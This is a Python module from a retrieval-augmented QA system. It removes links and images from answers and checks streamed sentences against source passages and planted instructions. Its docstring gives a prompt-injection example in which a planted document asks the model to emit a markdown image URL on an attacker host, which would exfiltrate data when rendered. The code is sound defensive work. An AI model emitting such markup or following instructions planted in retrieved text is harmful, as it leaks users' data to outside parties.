"""What an answer may never carry: links and images pointing outside, whoever wrote them.

A planted document can ask a model to emit `![](https://attacker/?q=…)`, which a markdown viewer
would fetch. Answers (the text and the quotes) therefore hold no URL and no image; the passage a
citation points at keeps its text as written, shown as plain text.
"""

from __future__ import annotations

from collections.abc import Sequence

from rag.schema import Answer, Passage
from rag.text.sanitize import without_links
from rag.verification.citations import passage_evidence, verify
from rag.verification.markers import split_sentences
from rag.verification.relevance import is_bare, on_subject, planted_words, repeats_planted


def safe_answer(answer: Answer) -> Answer:
    """The answer with links and images taken out of its text and quotes (in place, and returned)."""
    answer.text = without_links(answer.text)
    for citation in answer.citations:
        citation.quote = without_links(citation.quote)
    answer.unsupported = [without_links(s) for s in answer.unsupported]
    return answer


class VerifiedStream:
    """Lets a streamed reply through sentence by sentence, each one only once it is whole (its citation
    markers included) and checked against the passages: nothing unsupported or planted reaches the
    screen, not even for the moment before the whole answer is verified. (Links are taken out of
    every piece by the assistant, which sees whole sentences here.)"""

    def __init__(self, passages: Sequence[Passage], question: str = "") -> None:
        self.passages = passages
        self.question = question  # when given, a sentence is shown only when it is on its subject
        self.evidence = passage_evidence(passages)  # once for every sentence, and the final check
        self.planted = planted_words(self.evidence, question)
        self.raw = ""
        self.done = 0  # characters of `raw` already decided on

    def feed(self, piece: str) -> str:
        """The checked text that may be shown now ("" while the sentence is still being written)."""
        self.raw += piece
        spans = split_sentences(self.raw[self.done :])
        if len(spans) < 2:  # the last sentence may still grow, or get its markers
            return ""
        return self._release(self.done + spans[-1][0])

    def shows(self, sentence: str) -> bool:
        """Neither a bare token nor what a planted instruction asks for (checked before the passages)."""
        return not is_bare(sentence) and not repeats_planted(sentence, self.planted)

    def close(self) -> str:
        """The rest, once the reply is complete."""
        return self._release(len(self.raw))

    def _release(self, upto: int) -> str:
        text, self.done = self.raw[self.done : upto], upto
        shown: list[str] = []
        for start, end in split_sentences(text):
            sentence = text[start:end]
            checked = verify(sentence, self.passages, drop_unsupported=True, evidence=self.evidence)
            if self.shows(sentence) and checked.supported == checked.claims:
                used = [n - 1 for c in checked.sentences for n in c.citations]
                if not self.question or on_subject(sentence, self.question, self.evidence, used):
                    shown.append(sentence)
        return "".join(shown)
